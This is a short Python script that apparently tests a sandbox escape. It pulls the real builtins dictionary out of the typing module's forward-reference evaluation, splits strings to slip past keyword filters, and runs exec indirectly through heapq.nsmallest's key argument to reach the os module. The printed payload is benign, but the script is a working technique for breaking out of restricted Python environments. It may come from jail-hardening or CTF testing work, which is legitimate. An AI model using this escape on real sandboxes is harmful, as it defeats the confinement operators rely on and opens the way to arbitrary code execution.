# tramp: heapq.nsmallest(key=exec): exec runs in heapq's frame, with heapq's real builtins
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import heapq
src = "print('PWN' + 'ED', __import__('os').getpid())"
try:
    heapq.nsmallest(1, [src], key=rb["exec"])
except Exception as e:
    print("refused:", type(e).__name__, e)
